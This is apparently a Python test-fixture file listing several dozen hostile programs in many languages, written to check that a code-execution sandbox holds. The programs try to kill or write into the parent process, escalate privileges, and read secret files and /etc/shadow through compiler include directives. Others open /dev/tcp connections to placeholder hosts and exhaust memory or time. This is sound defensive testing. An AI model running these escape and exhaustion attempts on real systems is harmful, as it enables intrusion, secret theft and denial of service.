"""Hostile programs in every language that go for what holds them: the gate, its pipes and signals, compilers, memory.

As those of ``fresh_programs.py``, and bounded by themselves like them.
"""

from __future__ import annotations

from harness import SECRET, Attack
from programs import SYSCALL

from sandbox_kernel import Limits

FURTHER = (
    # The gate: who reports how a program ended
    Attack(
        id="Y01-every-signal-to-the-gate", language="python", status=("failed",),
        code="import os, signal\nfor number in [n for n in range(1, 65) if n not in (32, 33)]:\n  for pid in {1, os.getppid() or 1}:\n"
             "    if pid == os.getpid(): continue\n    try: os.kill(pid, number)\n    except OSError: pass\nprint('still here')\nraise SystemExit(7)",
        says=("still here",),
    ),
    Attack(
        # CLONE_PARENT makes a child of the gate, whose end must not be taken for the program's.
        id="Y02-a-child-of-the-gate", language="c", status=("failed",), timeout=30,
        code="#define _GNU_SOURCE\n#include <sched.h>\n#include <signal.h>\n#include <stdio.h>\n#include <sys/syscall.h>\n#include <unistd.h>\n"
             "int main(){for(int i=0;i<20;i++){long p=syscall(SYS_clone, 0x8000|SIGCHLD, 0,0,0,0); if(p==0) _exit(0);}\n"
             " usleep(200000); puts(\"still here\"); fflush(stdout); _exit(7);}",
        says=("still here",),
    ),
    Attack(
        id="Y03-memory-of-the-gate", language="python", status=("ok",),
        code=SYSCALL + "import struct\nb = ctypes.create_string_buffer(b'x' * 64)\nv = struct.pack('QQ', ctypes.addressof(b), 64)\n"
             "for pid in {1, os.getppid() or 1} - {os.getpid()}:\n  call('process_vm_writev', 311, 271, pid, v, 1, v, 1, 0)\n"
             "  for name in ('mem', 'fd/3', 'fd/0', 'cwd/x', 'attr/current', 'oom_score_adj', 'autogroup', 'timerslack_ns', 'uid_map', 'setgroups', 'clear_refs', 'comm'):\n"
             "    try: fd = os.open('/proc/%d/%s' % (pid, name), os.O_RDWR); os.write(fd, b'1'); print('WROTE', name)\n    except OSError: pass\n"
             "  fd = libc.syscall(ctypes.c_long(434), ctypes.c_long(pid), ctypes.c_long(0))\n"
             "  for n in range(16): call('pidfd_getfd', 438, 438, fd, n, 0)\nprint('done')",
        says=("done",), never_says=("WROTE", "OPEN"),
    ),
    Attack(
        id="Y04-privileges-by-prctl-and-capset", language="python", status=("ok",),
        code=SYSCALL + "import struct\nP = lambda *a: libc.prctl(*[ctypes.c_long(x) for x in (*a, 0, 0, 0, 0)[:5]])\n"
             "P(8, 1); P(4, 1); P(38, 0); P(36, 1); P(28, 0)\nfor cap in range(41): P(24, cap); P(47, 2, cap)\n"
             "head = struct.pack('Ii', 0x20080522, 0); data = struct.pack('6I', *[0xffffffff] * 6)\nlibc.capset(head, data)\n"
             "for name in ('setuid', 'setgid', 'setfsuid'): getattr(libc, name)(0)\nlibc.setgroups(1, (ctypes.c_uint * 1)(0))\n"
             "s = dict(l.split(':\\t', 1) for l in open('/proc/self/status').read().splitlines() if ':\\t' in l)\n"
             "if int(s['CapEff'], 16): print('GAINED', s['CapEff'])\nif s['NoNewPrivs'].strip() != '1' or s['Seccomp'].strip() != '2': print('GAINED', s['Seccomp'])\nprint('done')",
        says=("done",), never_says=("GAINED",),
    ),
    # Pipes to the host
    Attack(
        id="Y05-pipes-turned-round", language="python", status=("ok", "failed"), timeout=5,
        code="import fcntl, os\nfor fd in (0, 1, 2):\n  for mode in (os.O_RDONLY, os.O_WRONLY, os.O_RDWR):\n    try: other = os.open('/proc/self/fd/%d' % fd, mode | os.O_NONBLOCK)\n    except OSError: continue\n"
             "    for act in (lambda: os.write(other, b'forged' * 1000), lambda: os.read(other, 100), lambda: fcntl.fcntl(other, 1031, 4096), lambda: fcntl.fcntl(other, 1031, 1 << 20),\n"
             "                lambda: fcntl.fcntl(other, fcntl.F_SETFL, os.O_NONBLOCK | os.O_ASYNC | os.O_DIRECT), lambda: fcntl.fcntl(other, 8, 1), lambda: fcntl.fcntl(other, fcntl.F_SETLEASE, 1)):\n"
             "      try: act()\n      except OSError: pass\nos.write(2, b'done')",
        says=("done",),
    ),
    Attack(
        id="Y06-a-stranger-holds-the-output", language="command", status=("ok",), says=("first",), timeout=20,
        code="echo first; (trap '' TERM HUP INT PIPE; setsid sh -c 'exec 0<&- ; sleep 25; echo second' &) ; exec 1>&- 2>&-",
    ),
    # Memory that is charged to nobody
    Attack(
        id="Y07-shared-by-children", language="c", status=("memory_exceeded",), limit="memory", timeout=30,
        code="#define _GNU_SOURCE\n#include <string.h>\n#include <sys/mman.h>\n#include <sys/wait.h>\n#include <unistd.h>\n"
             "int main(){for(int i=0;i<24;i++) if(fork()==0){char*p=mmap(0,48<<20,3,MAP_SHARED|MAP_ANONYMOUS,-1,0);"
             " if(p!=MAP_FAILED) memset(p,1,48<<20); sleep(20); _exit(0);} while(wait(0)>0); return 0;}",
    ),
    Attack(
        id="Y08-locked-memory", language="c", status=("ok", "failed", "memory_exceeded"), timeout=30,
        code="#define _GNU_SOURCE\n#include <stdio.h>\n#include <sys/mman.h>\n#include <sys/resource.h>\n"
             "int main(){struct rlimit all={RLIM_INFINITY,RLIM_INFINITY}; setrlimit(RLIMIT_MEMLOCK,&all); mlockall(MCL_CURRENT|MCL_FUTURE);"
             " for(int i=0;i<64;i++){char*p=mmap(0,16<<20,3,MAP_PRIVATE|MAP_ANONYMOUS|MAP_LOCKED|MAP_POPULATE,-1,0); if(p==MAP_FAILED){puts(\"refused\");return 0;}}"
             " puts(\"GOT ALL\"); return 0;}",
        never_says=("GOT ALL",),
    ),
    Attack(
        id="Y09-messages-between-processes", language="python", status=("ok", "failed", "memory_exceeded"),
        code="import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nsent = 0\nfor q in range(40000):\n  i = libc.msgget(0, 0o1600)\n  if i < 0: break\n"
             "  while libc.msgsnd(i, ctypes.create_string_buffer(b'\\1' + b'\\0' * 8191), 8184, 0o4000) == 0: sent += 8184\n"
             "for q in range(2000):\n  m = libc.mq_open(b'/q%d' % q, 0o102, 0o600, None)\n  if m < 0: break\n"
             "  libc.fcntl(m, 4, 0o4000)\n  while libc.mq_timedsend(m, b'x' * 8192, 8192, 0, (ctypes.c_long * 2)(0, 0)) == 0: sent += 8192\n"
             "print('held', sent < 1 << 30)",
    ),
    Attack(
        id="Y10-pending-signals", language="c", status=("ok", "failed"), timeout=30,
        code="#define _GNU_SOURCE\n#include <signal.h>\n#include <stdio.h>\n#include <unistd.h>\nint main(){sigset_t s; sigfillset(&s); sigprocmask(SIG_BLOCK,&s,0);"
             " union sigval v={0}; long n=0; while(n<3000000 && sigqueue(getpid(),SIGRTMIN+1,v)==0) n++; printf(\"held %d\\n\", n<3000000); return 0;}",
        says=("held 1",),
    ),
    Attack(
        id="Y11-watches-and-poll-sets", language="python", status=("ok", "failed", "memory_exceeded"), timeout=30,
        code="import ctypes, os, select\nlibc = ctypes.CDLL(None)\nn = 0\nfd = libc.inotify_init1(0)\nfor i in range(60000):\n  try: os.mkdir('d%d' % i)\n  except OSError: break\n"
             "  if libc.inotify_add_watch(fd, b'd%d' % i, 0xfff) < 0: break\n  n += 1\n"
             "held = []\ntry:\n  for i in range(100):\n    e = select.epoll(); held.append(e)\n    for other in held[:-1]:\n      try: e.register(other.fileno())\n      except OSError: pass\nexcept OSError: pass\nprint('end')",
        says=("end",),
    ),
    # Getting at files by other calls
    Attack(
        id="Y12-links-and-names-across", language="python", status=("ok",), never_says=(SECRET, "LINKED"),
        code="import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nfor source in ('@SENTINELS@/secret.txt', '@SENTINELS@/writable.txt', '/etc/shadow', '/proc/1/exe', '/proc/1/root'):\n"
             "  for act in (os.link, os.rename, os.replace):\n    try: act(source, 'mine'); print('LINKED', source, act)\n    except OSError: pass\n"
             "  fd = libc.open(source.encode(), 0o10000000)\n  if fd >= 0:\n"
             "    if libc.linkat(fd, b'', -100, b'byfd', 0x1000) == 0: print('LINKED', source)\n    try: print(os.read(os.open('/proc/self/fd/%d' % fd, 0), 100))\n    except OSError: pass\n"
             "tmp = os.open('.', os.O_TMPFILE | os.O_RDWR, 0o600) if hasattr(os, 'O_TMPFILE') else -1\n"
             "for target in ('@SENTINELS@/new', '/etc/new', '/usr/lib/new'):\n  try: os.link('/proc/self/fd/%d' % tmp, target, follow_symlinks=True); print('LINKED', target)\n  except OSError: pass\nprint('done')",
        says=("done",),
    ),
    Attack(
        id="Y13-a-program-in-memory-that-hides", language="python", status=("ok",), says=("left",),
        code="import os\ntry: fd = os.memfd_create('', 0)\nexcept OSError: fd = os.open('/bin/sleep', os.O_RDONLY)\n"
             "else:\n  with open('/bin/sleep', 'rb') as f: os.write(fd, f.read())\n"
             "for i in range(3):\n  if os.fork() == 0:\n    os.setsid()\n    if os.fork(): os._exit(0)\n    os.dup2(os.open('/dev/null', 2), 1)\n    os.execve(fd, ['', '25'], {})\nprint('left')",
    ),
    Attack(
        id="Y14-secrets-while-assembling", language="c", status=("compile_failed",), never_says=(SECRET,), timeout=30,
        code="__asm__(\".incbin \\\"@SENTINELS@/secret.txt\\\"\");\n#include \"@SENTINELS@/secret.txt\"\n#embed \"@SENTINELS@/secret.txt\"\nint main(){return 0;}",
    ),
    Attack(
        id="Y15-includes-without-end", language="cpp", status=("compile_failed", "timeout", "memory_exceeded", "failed"), timeout=10,
        code="#include \"/dev/zero\"\n#include \"/dev/stdin\"\n#include __FILE__\nint main(){}",
    ),
    Attack(
        id="Y16-before-and-after-main", language="cpp", status=("timeout",), limit="timeout", timeout=8,
        code="#include <csignal>\n#include <cstdlib>\n#include <exception>\nstruct A { A(){for(int s=1;s<65;s++) std::signal(s,SIG_IGN);} ~A(){for(;;);} } a;\n"
             "int main(){std::set_terminate([]{for(;;);}); std::atexit([]{for(;;);}); throw 1;}",
    ),
    Attack(
        id="Y17-handlers-upon-handlers", language="c", status=("killed", "timeout"), timeout=6,
        code="#define _GNU_SOURCE\n#include <signal.h>\n#include <stdlib.h>\n#include <sys/mman.h>\nstatic void h(int s){volatile char b[4096]; b[0]=1; *(volatile int*)0=1; (void)s;}\n"
             "int main(){stack_t k={0}; k.ss_sp=malloc(65536); k.ss_size=65536; sigaltstack(&k,0); struct sigaction a={0}; a.sa_handler=h; a.sa_flags=SA_ONSTACK|SA_NODEFER;"
             " sigaction(SIGSEGV,&a,0); sigaction(SIGBUS,&a,0); munmap((void*)0x1000,1UL<<46); h(0); return 0;}",
    ),
    Attack(
        id="Y18-leaks-of-many-threads", language="rust", status=("memory_exceeded",), limit="memory", timeout=60,
        code="use std::thread;\nfn main(){let hs: Vec<_> = (0..8).map(|_| thread::spawn(|| { for _ in 0..64 { Box::leak(vec![1u8; 16 << 20].into_boxed_slice()); } })).collect(); for h in hs { let _ = h.join(); } println!(\"GOT ALL\"); }",
        never_says=("GOT ALL",),
    ),
    Attack(
        id="Y19-secrets-by-macros", language="rust", status=("compile_failed",), never_says=(SECRET,), timeout=60,
        code="const A: &str = include_str!(\"@SENTINELS@/secret.txt\");\nconst B: &[u8] = include_bytes!(\"/proc/self/environ\");\n#[path = \"@SENTINELS@/secret.txt\"] mod m;\nfn main(){println!(\"{} {:?} {:?}\", A, B, option_env!(\"SBX_SENTINEL\"));}",
    ),
    Attack(
        id="Y35-zig-reads-while-it-compiles", language="zig", status=("compile_failed",), never_says=(SECRET,), timeout=120, memory_mb=1024,
        code="const std = @import(\"std\");\nconst secret = @embedFile(\"@SENTINELS@/secret.txt\");\npub fn main() void { comptime var i: u64 = 0; comptime while (i < 1 << 40) : (i += 1) {}; std.debug.print(\"{s}\", .{secret}); }",
    ),
    # Other languages
    Attack(
        id="Y20-node-by-its-back-doors", language="javascript", status=("ok", "failed"), never_says=(SECRET, "DONE"), timeout=20,
        code="Object.prototype.shell = '/bin/sh'; Object.prototype.env = {NODE_OPTIONS: '--inspect=0.0.0.0:1'};\nconst fs = require('fs'), tries = [\n"
             "  () => fs.readFileSync('@SENTINELS@/secret.txt', 'utf8'), () => fs.writeFileSync('@SENTINELS@/writable.txt', 'x'), () => process.binding('fs').internalModuleReadJSON('@SENTINELS@/secret.txt'),\n"
             "  () => require('child_process').execSync('cat @SENTINELS@/secret.txt').toString(), () => process.kill(@HOSTPID@, 9), () => process.kill(process.ppid || 1, 9),\n"
             "  () => process.dlopen({exports: {}}, '@SENTINELS@/secret.txt'), () => fs.readFileSync(new URL('file:///proc/1/environ')).length && 'DONE'];\n"
             "for (const t of tries) { try { const r = t(); console.log(typeof r === 'string' ? r : 'no'); } catch (e) { console.log('refused'); } }\n"
             "require('net').connect(@TCP@, '@ADDRESS@').on('connect', () => console.log('DONE')).on('error', () => console.log('refused'));",
        says=("refused",),
    ),
    Attack(
        id="Y21-buffers-of-node", language="javascript", status=("memory_exceeded", "failed", "killed"), timeout=60, memory_mb=512,
        code="const held = []; for (let i = 0; i < 64; i++) { held.push(Buffer.alloc(64 << 20, 1)); } console.log('GOT ALL');",
        never_says=("GOT ALL",),
    ),
    Attack(
        id="Y22-an-expression-without-end", language="typescript", status=("timeout",), limit="timeout", timeout=4,
        code="const s: string = 'a'.repeat(60) + '!'; process.on('SIGTERM', () => {}); console.log(/^(a+)+$/.test(s));",
    ),
    Attack(
        id="Y23-ruby-that-does-not-end", language="ruby", status=("timeout",), limit="timeout", timeout=4,
        code="(1..31).each { |s| begin; trap(s, 'IGNORE'); rescue ArgumentError, SystemCallError; end }\nat_exit { loop {} }\nfork { Process.setsid; sleep 25 }\nThread.new { loop {} }\nexit 3",
    ),
    Attack(
        id="Y24-ruby-by-names", language="ruby", status=("ok",), never_says=(SECRET, "ROOT"), says=("end",), timeout=20,
        code="['@SENTINELS@/secret.txt', '|cat @SENTINELS@/secret.txt', '/proc/1/environ'].each { |p| begin; puts IO.read(p); rescue SystemCallError; end; begin; puts Kernel.open(p).read; rescue SystemCallError; end }\n"
             "begin; puts File.symlink('@SENTINELS@/secret.txt', 'l'); puts File.read('l'); rescue SystemCallError; end\nbegin; Process::Sys.setuid(0); puts 'ROOT'; rescue SystemCallError, NotImplementedError; end\nputs 'end'",
    ),
    Attack(
        id="Y25-perl-opens-anything", language="perl", status=("ok", "failed"), never_says=(SECRET, "KILLED"), says=("end",), timeout=20,
        code="for my $p ('@SENTINELS@/secret.txt', 'cat @SENTINELS@/secret.txt |', '+>>@SENTINELS@/writable.txt', '/proc/1/environ') { if (open(my $f, $p)) { print <$f>; close $f; } }\n"
             "print 'KILLED' if kill 9, @HOSTPID@;\nsyscall(57) if 0; $0 = 'kworker'; if (fork() == 0) { $SIG{TERM} = 'IGNORE'; sleep 25; exit } print \"end\\n\";",
    ),
    Attack(
        id="Y26-php-by-its-wrappers", language="php", status=("ok", "failed"), never_says=(SECRET,), says=("end",), timeout=20,
        code="<?php\nforeach (['@SENTINELS@/secret.txt', 'file://@SENTINELS@/secret.txt', 'php://filter/read=string.rot13/resource=@SENTINELS@/secret.txt', 'glob://@SENTINELS@/*', 'phar://@SENTINELS@/secret.txt', 'expect://id', 'http://@ADDRESS@:@TCP@/', 'data://text/plain,x'] as $p)\n"
             "  { $d = @file_get_contents($p); if (is_string($d)) echo $d, \"\\n\"; @include $p; }\n"
             "@file_put_contents('@SENTINELS@/writable.txt', 'x'); echo @shell_exec('cat @SENTINELS@/secret.txt'); @symlink('@SENTINELS@', 'd'); echo @file_get_contents('d/secret.txt'); echo getenv('SBX_SENTINEL'), \"end\\n\";",
    ),
    Attack(
        id="Y27-lua-doubles-a-text", language="lua", status=("memory_exceeded", "failed"), timeout=20,
        code="local f = io.popen and io.popen('cat @SENTINELS@/secret.txt') if f then print(f:read('a')) end\nprint(pcall(package.loadlib, '@SENTINELS@/secret.txt', '*'))\n"
             "local s = string.rep('x', 1 << 20) for i = 1, 20 do s = s .. s end print('GOT ALL')",
        never_says=(SECRET, "GOT ALL"),
    ),
    Attack(
        id="Y28-sql-that-attaches", language="sql", status=("ok", "failed"), never_says=(SECRET,), timeout=20,
        code="SELECT readfile('@SENTINELS@/secret.txt');\nSELECT writefile('@SENTINELS@/writable.txt', 'x');\nATTACH '@SENTINELS@/secret.txt' AS s; SELECT * FROM s.sqlite_master;\n"
             "SELECT load_extension('@SENTINELS@/secret.txt');\n.shell cat @SENTINELS@/secret.txt\n.read @SENTINELS@/secret.txt\n.output '|cat @SENTINELS@/secret.txt'\nSELECT 1;\nVACUUM INTO '@SENTINELS@/new.db';\n",
    ),
    Attack(
        id="Y29-sql-without-end", language="sql", status=("timeout",), limit="timeout", timeout=3,
        code="WITH RECURSIVE t(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM t) SELECT count(*) FROM t;",
    ),
    Attack(
        id="Y30-sql-of-one-value", language="sql", status=("memory_exceeded", "failed"), timeout=20,
        code="WITH RECURSIVE t(x) AS (SELECT zeroblob(100000000) UNION ALL SELECT x || randomblob(100000000) FROM t) SELECT length(group_concat(hex(x))) FROM t LIMIT 5;",
        memory_mb=128,
    ),
    Attack(
        id="Y31-a-shell-of-traps", language="command", status=("timeout",), limit="timeout", timeout=3,
        code="set -o functrace; trap 'while :; do :; done' EXIT HUP INT QUIT TERM ERR; trap 'kill -CONT $$' DEBUG; readonly PATH IFS; (exec 3<>/dev/tcp/@ADDRESS@/@TCP@) 2>/dev/null && echo CONNECTED;"
             " (echo x > /dev/udp/@ADDRESS@/@UDP@) 2>/dev/null; ulimit -Hn unlimited 2>/dev/null && echo RAISED; false; exit 3",
        never_says=("CONNECTED", "RAISED"),
    ),
    # Time and output
    Attack(
        id="Y32-timers-for-the-whole-group", language="python", status=("killed",), timeout=20,
        code="import os, signal, time\nfor i in range(5):\n  if os.fork() == 0:\n    signal.signal(signal.SIGALRM, lambda *a: os.kill(0, signal.SIGALRM))\n    signal.setitimer(signal.ITIMER_REAL, 0.3)\n    time.sleep(20)\n    os._exit(0)\ntime.sleep(20)",
    ),
    Attack(
        id="Y33-output-of-many-at-once", language="python", status=("timeout",), limit="timeout", timeout=2, limits=Limits(output_bytes=1 << 20),
        code="import os\nfor i in range(20):\n  if os.fork() == 0: break\nline = (b'\\x1b]0;x\\x07\\xff\\xfe\\r\\x00' * 6000)\nwhile True:\n  os.write(1 + i % 2, line)",
    ),
    Attack(
        id="Y34-no-vdso-and-no-lists", language="c", status=("killed", "ok"), timeout=30,
        code="#define _GNU_SOURCE\n#include <sys/auxv.h>\n#include <sys/mman.h>\n#include <sys/syscall.h>\n#include <unistd.h>\nint main(){syscall(SYS_set_robust_list,(void*)-4096,24); munmap((void*)getauxval(AT_SYSINFO_EHDR),8192);"
             " syscall(SYS_set_tid_address,(void*)-8); if(fork()==0) _exit(0); syscall(SYS_exit_group,0);}",
    ),
)  # fmt: skip
